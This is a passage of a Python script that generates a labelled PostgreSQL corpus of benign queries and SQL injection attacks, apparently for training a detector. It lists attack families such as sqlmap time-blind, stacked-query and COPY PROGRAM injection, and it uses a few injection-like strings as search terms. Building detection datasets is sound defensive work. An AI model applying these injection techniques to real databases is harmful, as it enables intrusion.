            ("cx7_do_grant_loop", "DO $do$\nDECLARE t text;\nBEGIN\n  FOR t IN SELECT tablename FROM pg_tables WHERE schemaname = 'reporting' LOOP\n    EXECUTE format('GRANT SELECT ON reporting.%I TO analyst', t);\n  END LOOP;\nEND\n$do$"),
            ("cx7_trigger_fn", "CREATE FUNCTION trips_touch() RETURNS trigger LANGUAGE plpgsql AS $$ BEGIN NEW.updated_at := clock_timestamp(); RETURN NEW; END $$"),
            ("cx7_sql_atomic_fn", "CREATE FUNCTION seat_count(ws text) RETURNS bigint LANGUAGE sql STABLE BEGIN ATOMIC SELECT count(*) FROM workspace_seats WHERE workspace_slug = ws AND revoked_at IS NULL; END"),
            ("cx7_do_raise_notice", "DO $$\nBEGIN\n  IF NOT EXISTS (SELECT 1 FROM pg_roles WHERE rolname = 'report_reader') THEN\n    RAISE NOTICE 'role report_reader is missing; skipping grants';\n  END IF;\nEND\n$$"),
            ("cx7_procedure_commit", "CREATE PROCEDURE purge_old_pings(keep_days int) LANGUAGE plpgsql AS $proc$\nBEGIN\n  DELETE FROM courier_pings WHERE pinged_at < now() - make_interval(days => keep_days);\n  COMMIT;\nEND\n$proc$"),
        ])
    if family == "complex_search_complex":
        return pick([
            ("cx7_search_weighted", "SELECT page_id, ts_rank(setweight(to_tsvector('english', title), 'A') || setweight(to_tsvector('english', body), 'B'), websearch_to_tsquery('english', %s)) AS r FROM wiki_pages ORDER BY r DESC LIMIT 10" % sq(pick(["\"drop table\" -select", "union or join", "o'reilly -sleep", "waitfor delay", "1=1 or 2=2", "copy program"]))),
            ("cx7_search_trgm", "SELECT pet_name, similarity(pet_name, %s) FROM pets WHERE pet_name %% %s ORDER BY 2 DESC LIMIT 5" % ((lambda v: (v, v))(sq(pick(["luna", "o'malley", "select", "max"]))))),
        ])
    raise KeyError(family)


def gen_complex(family, n_target):
    got = 0
    tries = 0
    while got < n_target and tries < n_target * 60:
        tries += 1
        tname, sql = complex_gen(family)
        if add(sql, "benign", family, tname, "complex:" + tname[4:]):
            got += 1
    return got


# ---------------------------------------------------------------------------
# pg_regress-style statements written for this corpus
# ---------------------------------------------------------------------------
def regress_gen():
    n = rnum(1, 99)
    k = rnum(2, 20)
    tb = pick(["rgt_%d" % n, "sv_tst%d" % n, "tbl_%s" % rword(3, string.ascii_lowercase), "t%d" % n])
    fl = pick(["float8", "numeric", "int4", "int8", "text", "varchar(20)", "bytea", "jsonb", "tsvector", "point", "inet"])
    choices = [
        ("create_table.sql", "CREATE TABLE %s (a int, b %s, c text DEFAULT 'x''y')" % (tb, fl)),
        ("create_table.sql", "CREATE TEMP TABLE %s (f1 int PRIMARY KEY, f2 text) ON COMMIT DROP" % tb),
        ("insert.sql", "INSERT INTO %s VALUES (%d, '%s'), (%d, NULL)" % (tb, n, rword(5, string.ascii_lowercase), n + 1)),
        ("insert.sql", "INSERT INTO %s (f1) SELECT g FROM generate_series(1, %d) g" % (tb, k * 100)),
        ("float8.sql", "SELECT '%d.%de%d'::float8 AS f" % (n, k, rnum(-300, 300))),
        ("float8.sql", "SELECT 'NaN'::float8 = 'NaN'::float8, '-Infinity'::float8 < %d" % n),
        ("numeric.sql", "SELECT round(%d.%05d::numeric, %d), trunc(-%d.%d, 1)" % (n, rnum(0, 99999), rnum(0, 4), k, n)),
        ("numeric.sql", "SELECT %d.%d / 0.0" % (n, k)),
        ("int4.sql", "SELECT '2147483647'::int4 + '%d'::int4 AS overflow" % n),
        ("int8.sql", "SELECT q1, q2, q1 * q2 AS multiply FROM INT8_TBL WHERE q1 < %d OR q2 > %d" % (n * 1000, k)),
        ("strings.sql", "SELECT U&'d\\0061t\\+000061' AS U&\"d\\0061t\\+000061\""),
        ("strings.sql", "SELECT U&'d!0061t\\+000061' UESCAPE '!' AS \"data\""),
        ("strings.sql", "SELECT E'\\\\x%02X%02X'::bytea AS hex" % (rnum(0, 255), rnum(0, 255))),
        ("strings.sql", "SELECT 'abc' || %d || 'def' AS cat, substr('1234567890', %d, %d)" % (n, rnum(1, 5), rnum(1, 5))),
        ("strings.sql", "SELECT 'first line'\n' - next line' /* this comment is not allowed here */\n' - third line'\n\tAS \"Illegal comment within continuation\""),
        ("strings.sql", "SELECT position('%s' IN 'abcdef'), overlay('Txxxxas' placing 'hom' from 2 for %d)" % (pick("abcdef"), rnum(1, 5))),
        ("strings.sql", "SELECT 'hawkeye' LIKE 'h%' AS \"true\", 'hawkeye' NOT ILIKE 'H%Eye' AS \"false\", 'indio' SIMILAR TO '_ndi%' AS \"true\""),
        ("strings.sql", "SELECT regexp_replace('AAA   BBB   CCC   ', E'\\\\s+', ' ', 'g')"),
        ("strings.sql", "SELECT split_part('joeuser@mydatabase', '@', %d) AS part" % rnum(-2, 3)),
        ("text.sql", "SELECT concat_ws('#', %d, 'x', NULL, 2.5, true), reverse('abcde')" % n),
        ("text.sql", "SELECT format('INSERT INTO %%I VALUES(%%L,%%L)', 'mytab', %d, 'O''Reilly')" % n),
        ("text.sql", "select format('%%1$s %%3$s', 1, 2, %d)" % n),
        ("dollar.sql", "SELECT $$dollar quoted 'string' %d$$ AS d, $tag$ with $$ inside $tag$ AS e" % n),
        ("plpgsql.sql", "CREATE FUNCTION rgtest%d(x int) RETURNS int AS $$\nBEGIN\n  IF x < 0 THEN\n    RAISE EXCEPTION 'negative: %%', x;\n  END IF;\n  RETURN x * %d;\nEND\n$$ LANGUAGE plpgsql" % (n, k)),
        ("plpgsql.sql", "DO $$\nDECLARE r record;\nBEGIN\n  FOR r IN SELECT * FROM generate_series(1, %d) g LOOP\n    RAISE NOTICE 'row %%', r.g;\n  END LOOP;\nEND$$" % k),
        ("plpgsql.sql", "DROP FUNCTION rgtest%d(int)" % n),
        ("select.sql", "SELECT onek.unique1, onek.stringu1 FROM onek WHERE onek.unique1 < %d ORDER BY unique1 USING >" % (n * 2)),
        ("select.sql", "SELECT * FROM onek2 WHERE unique2 = %d AND stringu1 < 'B'" % (n * 11)),
        ("select_distinct_on.sql", "SELECT DISTINCT ON (string4) string4, two, ten FROM onek ORDER BY string4 using <, two using >, ten using <"),
        ("join.sql", "SELECT * FROM J1_TBL t1 NATURAL JOIN J2_TBL t2 WHERE t1.i > %d" % rnum(0, 4)),
        ("join.sql", "SELECT * FROM (SELECT 1 AS x) ss1 LEFT JOIN (SELECT q1, q2, COALESCE(dat1, q1) AS y FROM int8_tbl LEFT JOIN innertab ON q2 = id) ss2 ON true"),
        ("union.sql", "SELECT 1 AS two UNION SELECT 2 UNION ALL SELECT %d ORDER BY 1" % n),
        ("union.sql", "SELECT q2 FROM int8_tbl INTERSECT ALL SELECT q1 FROM int8_tbl ORDER BY 1"),
        ("union.sql", "SELECT f1 FROM float8_tbl EXCEPT SELECT f1 FROM int4_tbl ORDER BY 1"),
        ("aggregates.sql", "SELECT avg(four) AS avg_1 FROM onek WHERE ten < %d" % k),
        ("aggregates.sql", "SELECT string_agg(a,',' ORDER BY a DESC) FROM (VALUES('aaaa'),('bbbb'),('cccc')) g(a)"),
        ("aggregates.sql", "SELECT percentile_cont(0.%d) WITHIN GROUP (ORDER BY thousand) FROM tenk1" % rnum(1, 9)),
        ("window.sql", "SELECT four, ten, sum(ten) OVER (PARTITION BY four ORDER BY ten ROWS BETWEEN %d PRECEDING AND CURRENT ROW) FROM tenk1 WHERE unique2 < 10" % rnum(1, 3)),
        ("window.sql", "SELECT lag(ten, %d, 0) OVER (PARTITION BY four ORDER BY ten), ten, four FROM tenk1 WHERE unique2 < 10" % rnum(1, 3)),
        ("with.sql", "WITH RECURSIVE t(n) AS (VALUES (1) UNION ALL SELECT n+1 FROM t WHERE n < %d) SELECT sum(n) FROM t" % (k * 5)),
        ("with.sql", "WITH q1(x,y) AS (SELECT hundred, sum(ten) FROM tenk1 GROUP BY hundred) SELECT count(*) FROM q1 WHERE y > (SELECT sum(y)/%d FROM q1 qsub)" % rnum(50, 200)),
        ("subselect.sql", "SELECT '' AS six, f1 AS \"Uncorrelated Field\" FROM SUBSELECT_TBL WHERE f1 IN (SELECT f2 FROM SUBSELECT_TBL WHERE f2 IN (SELECT f1 FROM SUBSELECT_TBL))"),
        ("subselect.sql", "select exists(select * from nocolumns) as exists_%d" % n),
        ("case.sql", "SELECT CASE WHEN %d > 0 THEN 'positive' WHEN %d < 0 THEN 'negative' ELSE 'zero' END AS \"Simple WHEN\"" % (n, n)),
        ("case.sql", "SELECT COALESCE(a.f, b.i, b.j) FROM CASE_TBL a, CASE2_TBL b WHERE a.i = %d" % rnum(1, 4)),
        ("boolean.sql", "SELECT 't'::bool AND 'f'::bool, bool 'yes' OR bool 'no', NOT bool 'off' AS \"True\""),
        ("boolean.sql", "SELECT pg_input_is_valid('%s', 'bool')" % pick(["asdf", "yes", "  true  ", "nay", "0"])),
        ("date.sql", "SELECT date '%s' - date '1999-01-01' AS \"Days\"" % d8()),
        ("timestamp.sql", "SELECT timestamp with time zone '%s 04:05:06 PST' AT TIME ZONE 'UTC'" % d8()),
        ("interval.sql", "SELECT interval '%d days %d hours' * %d.5 AS product" % (n, k, rnum(1, 5))),
        ("interval.sql", "SELECT justify_hours(interval '%d hours'), justify_days(interval '%d days')" % (k * 13, n * 7)),
        ("horology.sql", "SELECT to_char(timestamp '%s 13:14:15', 'HH24:MI:SS Day DD Mon YYYY')" % d8()),
        ("inet.sql", "SELECT '192.168.%d.0/24'::cidr >> '192.168.%d.17'::inet, host('10.1.2.3/%d'::inet)" % (n, n, rnum(8, 32))),
        ("inet.sql", "SELECT set_masklen(inet '192.168.1.5/24', %d), inet '::ffff:1.2.3.4' & inet '::ffff:255.255.0.0'" % rnum(8, 30)),
        ("point.sql", "SELECT p.f1, p.f1 <-> point '(0,0)' AS dist FROM POINT_TBL p WHERE p.f1 <@ box '(%d,%d,0,0)'" % (n, k)),
        ("geometry.sql", "SELECT circle '<(%d,%d),%d>' @> point '(1,1)', area(box '(2,2),(0,0)')" % (rnum(0, 5), rnum(0, 5), k)),
        ("arrays.sql", "SELECT '{{1,2},{3,%d}}'::int[] AS a, ARRAY[1,2] || %d AS b, array_position(ARRAY['a','b','c'], 'b')" % (n, k)),
        ("arrays.sql", "SELECT a[1:%d], array_dims(a) FROM arrtest WHERE a[2] IS NOT NULL" % rnum(1, 3)),
        ("arrays.sql", "SELECT 'foo' = ANY (ARRAY['bar', 'foo']), 3 <> ALL ('{1,2,%d}')" % k),
        ("jsonb.sql", "SELECT '{\"a\": {\"b\": [1, %d]}}'::jsonb #> '{a,b,1}', '[1,2,3]'::jsonb @> '[%d]'" % (n, rnum(1, 4))),
        ("jsonb.sql", "SELECT jsonb_path_query('{\"a\": [1,2,%d]}', '$.a[*] ? (@ > 1)')" % k),
        ("jsonb.sql", "SELECT jsonb_set('{\"f1\":1,\"f2\":null}', '{f1}', '[2,3,%d]', false)" % n),
        ("json.sql", "SELECT json_object_agg(k, v) FROM (VALUES ('a', %d), ('b', 2)) t(k, v)" % n),
        ("tsearch.sql", "SELECT to_tsvector('english', 'The Fat Rats %d') @@ to_tsquery('english', 'fat & rat')" % n),
        ("tsearch.sql", "SELECT ts_headline('english', 'Lorem ipsum urna. Nullam nulla pede %d.', to_tsquery('english', 'nullam'), 'MaxWords=%d, MinWords=1')" % (n, k)),
        ("tsearch.sql", "SELECT count(*) FROM test_tsvector WHERE a @@ 'wr|qh'"),
        ("regex.sql", "SELECT 'abc%d' ~ '^abc\\d+$' AS t, substring('foobar' from 'o(b)') AS f" % n),
        ("regex.sql", "select regexp_match('abc%d', '(\\d)')" % n),
        ("create_index.sql", "CREATE INDEX %s_idx ON %s USING %s (%s)" % (tb, tb, pick(["btree", "hash", "brin", "gin", "gist"]), pick(["a", "b", "(a + 1)", "lower(c)"]))),
        ("create_index.sql", "DROP INDEX IF EXISTS %s_idx" % tb),
        ("alter_table.sql", "ALTER TABLE %s ADD COLUMN d int NOT NULL DEFAULT %d" % (tb, n)),
        ("alter_table.sql", "ALTER TABLE %s RENAME COLUMN a TO aa" % tb),
        ("alter_table.sql", "ALTER TABLE %s ALTER COLUMN b TYPE text USING b::text" % tb),
        ("alter_table.sql", "ALTER TABLE IF EXISTS %s DROP CONSTRAINT IF EXISTS %s_check" % (tb, tb)),
        ("drop_if_exists.sql", "DROP TABLE IF EXISTS %s CASCADE" % tb),
        ("truncate.sql", "TRUNCATE %s RESTART IDENTITY" % tb),
        ("explain.sql", "EXPLAIN (COSTS OFF) SELECT * FROM tenk1 WHERE unique1 = %d" % (n * 10)),
        ("explain.sql", "EXPLAIN (ANALYZE, COSTS OFF, SUMMARY OFF, TIMING OFF, BUFFERS OFF) SELECT * FROM int8_tbl i8 WHERE q1 > %d" % n),
        ("misc.sql", "SET enable_%s TO %s" % (pick(["seqscan", "indexscan", "hashjoin", "mergejoin", "sort", "bitmapscan", "nestloop"]), pick(["off", "on", "false"]))),
        ("misc.sql", "RESET enable_%s" % pick(["seqscan", "indexscan", "hashjoin", "mergejoin", "sort", "bitmapscan", "nestloop"])),
        ("guc.sql", "SET datestyle = '%s'" % pick(["ISO, MDY", "SQL, DMY", "Postgres, YMD", "German"])),
        ("guc.sql", "SHOW %s" % pick(["datestyle", "work_mem", "search_path", "timezone", "vacuum_cost_limit"])),
        ("guc.sql", "SET LOCAL work_mem = '%dMB'" % k),
        ("privileges.sql", "CREATE ROLE regress_priv_user%d" % n),
        ("privileges.sql", "GRANT SELECT ON %s TO regress_priv_user%d" % (tb, n)),
        ("privileges.sql", "REVOKE ALL PRIVILEGES ON %s FROM PUBLIC" % tb),
        ("privileges.sql", "SET SESSION AUTHORIZATION regress_priv_user%d" % n),
        ("privileges.sql", "RESET SESSION AUTHORIZATION"),
        ("privileges.sql", "DROP ROLE IF EXISTS regress_priv_user%d" % n),
        ("password.sql", "ALTER ROLE regress_passwd%d PASSWORD 'md5%s'" % (rnum(1, 9), "".join(R.choice("0123456789abcdef") for _ in range(32)))),
        ("password.sql", "SET password_encryption = '%s'" % pick(["md5", "scram-sha-256"])),
        ("prepare.sql", "PREPARE q%d(int, text) AS SELECT * FROM tenk1 WHERE unique1 = $1 AND stringu1 = $2" % n),
        ("prepare.sql", "EXECUTE q%d(%d, 'AAAAxx')" % (n, k)),
        ("prepare.sql", "DEALLOCATE q%d" % n),
        ("copy2.sql", "COPY %s (a, c) FROM stdin" % tb),
        ("copy2.sql", "COPY %s TO stdout WITH (FORMAT csv, QUOTE '''', ESCAPE E'\\\\')" % tb),
        ("domain.sql", "CREATE DOMAIN dpos%d AS int CHECK (VALUE > %d)" % (n, rnum(-5, 5))),
        ("domain.sql", "SELECT %d::dpos%d" % (rnum(-5, 10), n)),
        ("create_type.sql", "CREATE TYPE rgcomp%d AS (r float8, i float8)" % n),
        ("enum.sql", "CREATE TYPE rainbow%d AS ENUM ('red', 'orange', 'yellow', 'green', 'blue', 'purple')" % n),
        ("enum.sql", "SELECT 'red'::rainbow%d < 'green'::rainbow%d" % (n, n)),
        ("sequence.sql", "CREATE SEQUENCE sequence_test%d INCREMENT BY %d START %d" % (n, rnum(1, 5), k)),
        ("sequence.sql", "SELECT nextval('sequence_test%d'::regclass), setval('sequence_test%d', %d, false)" % (n, n, k)),
        ("rules.sql", "CREATE RULE rtest_%d AS ON DELETE TO %s DO INSTEAD NOTHING" % (n, tb)),
        ("triggers.sql", "CREATE TRIGGER trg_%d BEFORE INSERT ON %s FOR EACH ROW EXECUTE FUNCTION trigger_func('%s')" % (n, tb, rword(4, string.ascii_lowercase))),
        ("updatable_views.sql", "CREATE VIEW rw_view%d AS SELECT * FROM base_tbl WHERE a > %d WITH CASCADED CHECK OPTION" % (n, k)),
        ("update.sql", "UPDATE update_test SET a = DEFAULT, b = %d WHERE c = 'foo' RETURNING a, b" % n),
        ("delete.sql", "DELETE FROM delete_test AS dt WHERE dt.a > %d" % k),
        ("merge.sql", "MERGE INTO target t USING source AS s ON t.tid = s.sid WHEN MATCHED AND t.balance > %d THEN DELETE WHEN NOT MATCHED THEN INSERT VALUES (s.sid, s.delta)" % n),
        ("insert_conflict.sql", "INSERT INTO insertconflicttest VALUES (%d, 'Apple') ON CONFLICT (key) DO UPDATE SET fruit = excluded.fruit RETURNING *" % n),
        ("stats.sql", "SELECT pg_sleep(0.%d)" % rnum(1, 5)),
        ("stats.sql", "SELECT pg_stat_force_next_flush()"),
        ("stats.sql", "SELECT count(*) > 0 AS ok FROM pg_stat_get_snapshot_timestamp() IS NOT NULL AS snapshot_ok"),
        ("misc_functions.sql", "SELECT count(*) > 0 AS ok FROM pg_ls_waldir()"),
        ("misc_functions.sql", "select * from (select pg_ls_dir('.') a) a where a = 'base' limit 1"),
        ("misc_functions.sql", "SELECT pg_column_size('%s'::text), pg_typeof(%d.0)" % (rword(k, string.ascii_lowercase), n)),
        ("misc_functions.sql", "SELECT num_nulls(NULL::text, %d, NULL), num_nonnulls(1, 'x', NULL)" % n),
        ("largeobject.sql", "SELECT lo_create(%d)" % (40000 + n)),
        ("largeobject.sql", "SELECT lo_unlink(%d)" % (40000 + n)),
        ("transactions.sql", "START TRANSACTION"), ("transactions.sql", "SAVEPOINT one"), ("transactions.sql", "ROLLBACK TO one"),
        ("transactions.sql", "COMMIT WORK"),
        ("collate.sql", "SELECT 'bbc' COLLATE \"C\" > 'Abc' COLLATE \"C\", lower('%s' COLLATE \"C\")" % rword(4)),
        ("comments.sql", "SELECT 'trailing' AS first -- trailing single line\n"),
        ("comments.sql", "SELECT /* embedded single line */ 'embedded' AS second"),
        ("comments.sql", "/* This block comment surrounds a query which itself has a block comment...\nSELECT /* embedded single line */ 'embedded' AS x2;\n*/\nSELECT 'deeply nested example' AS sixth"),
        ("limit.sql", "SELECT ''::text AS two, unique1, unique2, stringu1 FROM onek WHERE unique1 > %d ORDER BY unique1 LIMIT 2" % (n * 5)),
        ("limit.sql", "select * from int8_tbl offset (case when random() < 0.5 then null::bigint end)"),
        ("bit.sql", "SELECT B'%s' & B'%s', X'%X' AS hex" % ("".join(pick("01") for _ in range(8)), "".join(pick("01") for _ in range(8)), rnum(16, 255))),
        ("uuid.sql", "SELECT '%s'::uuid = gen_random_uuid()" % "550e8400-e29b-41d4-a716-44665544%04d" % n),
        ("money.sql", "SELECT '$%d.%02d'::money * %d" % (n, k, rnum(2, 9))),
        ("xml.sql", "SELECT xmlelement(name foo, xmlattributes('%d' AS bar), 'content')" % n),
        ("rangetypes.sql", "SELECT int4range(%d, %d) && int4range(%d, 100), '[1,%d)'::int4range @> %d" % (n, n + 10, n + 5, k, rnum(0, k))),
        ("create_function_sql.sql", "CREATE FUNCTION functest_S_%d(a int) RETURNS int LANGUAGE SQL RETURN a * %d" % (n, k)),
        ("create_procedure.sql", "CALL ptest%d('%s')" % (rnum(1, 9), rword(3))),
        ("vacuum.sql", "VACUUM (ANALYZE) %s" % tb),
        ("vacuum.sql", "ANALYZE %s (a)" % tb),
        ("matview.sql", "REFRESH MATERIALIZED VIEW CONCURRENTLY mvtest_tm%d" % n),
        ("psql_like.sql", "SELECT $1 + $2 AS sum_params"),
    ]
    v, sql = pick(choices)
    if R.random() < 0.18:
        sql = pick(["-- test " + rword(6, string.ascii_lowercase) + " behaviour\n", "--\n-- %s\n--\n" % v[:-4].upper(),
                    "-- should fail\n", "-- check that %s works\n" % rword(5, string.ascii_lowercase)]) + sql
    return v, sql


def gen_regress(n_target):
    got = 0
    tries = 0
    while got < n_target and tries < n_target * 60:
        tries += 1
        v, sql = regress_gen()
        if add(sql, "benign", "pg_regress", "regress7:" + v, "regress7:" + v):
            got += 1
    return got


# ---------------------------------------------------------------------------
# Main
# ---------------------------------------------------------------------------
ATTACK_TARGETS = {
    "sqlmap_time_blind": 255, "sqlmap_boolean_blind": 240, "sqlmap_error_based": 185, "sqlmap_stacked_queries": 98,
    "sqlmap_union_query": 72, "sqlmap_inline_query": 20,
    "tautology": 66, "stacked": 55, "oob_file_program": 40, "time_pg_sleep": 35, "boolean_blind": 33,
    "comment_truncation": 32, "error_cast": 31, "obf_whitespace": 28, "obf_case_mix": 27, "obf_inline_comment": 27,
    "obf_nospace": 27, "dollar_quote": 26, "e_escape": 21, "plpgsql_do_exec": 21, "string_concat_subquery": 19,
    "union": 19, "escape_bypass_backslash": 8,
}
BENIGN_INPUT_TARGETS = {
    "input_numeric": 155, "input_formatted": 145, "input_plain": 75, "input_unicode": 34, "input_long_text": 33,
    "input_punctuation": 27, "input_apostrophe_names": 25, "input_sql_words": 22, "input_json_text": 21,
    "input_url_email": 20, "input_whitespace": 20, "input_numeric_string": 18, "input_identifier": 10,
}
COMPLEX_TARGETS = {
    "complex_builtin_funcs": 78, "complex_orm_generated": 78, "complex_comments_hints": 58, "complex_cte_window": 42,
    "complex_migration_script": 39, "complex_query_builder": 39, "complex_union_report": 21, "complex_batch_insert": 20,
    "complex_transactions": 20, "complex_maintenance_admin": 20, "complex_copy_stdin": 16, "complex_ddl_migration": 16,
    "complex_orm_introspection": 8, "complex_parameterized": 6, "complex_plpgsql_body": 6, "complex_search_complex": 6,
}


def main():
    shortfall = {}
    for fam, n in ATTACK_TARGETS.items():
        if fam.startswith("sqlmap_"):
            g = gen_sqlmap(fam, n)
        elif fam.startswith("obf_"):
            g = gen_obf(fam, n)
        elif fam == "escape_bypass_backslash":
            g = escape_bypass(n)
        else:
            g = gen_hand(fam, n)
        if g < n:
            shortfall[fam] = (g, n)
    for fam, n in BENIGN_INPUT_TARGETS.items():
        g = gen_benign_inputs(fam, n)
        if g < n:
            shortfall[fam] = (g, n)
    g = gen_escaped(100)
    if g < 100:
        shortfall["escaped_attack_string"] = (g, 100)
    for fam, n in COMPLEX_TARGETS.items():
        g = gen_complex(fam, n)
        if g < n:
            shortfall[fam] = (g, n)
    g = gen_regress(290)
    if g < 290:
        shortfall["pg_regress"] = (g, 290)

    R.shuffle(ROWS)
    for i, r in enumerate(ROWS):
        r["id"] = "sev-%06d" % (i + 1)
    keys = ["id", "sql", "label", "family", "template", "input", "inputs", "variant", "dbms", "multi_statement"]
    with gzip.GzipFile(OUT, "wb", mtime=0) as fh:
        for r in ROWS:
            fh.write((json.dumps({k: r[k] for k in keys}, ensure_ascii=False) + "\n").encode("utf-8"))
    print("wrote", OUT, len(ROWS), "rows", file=sys.stderr)
    if shortfall:
        print("shortfall:", shortfall, file=sys.stderr)


if __name__ == "__main__":
    main()
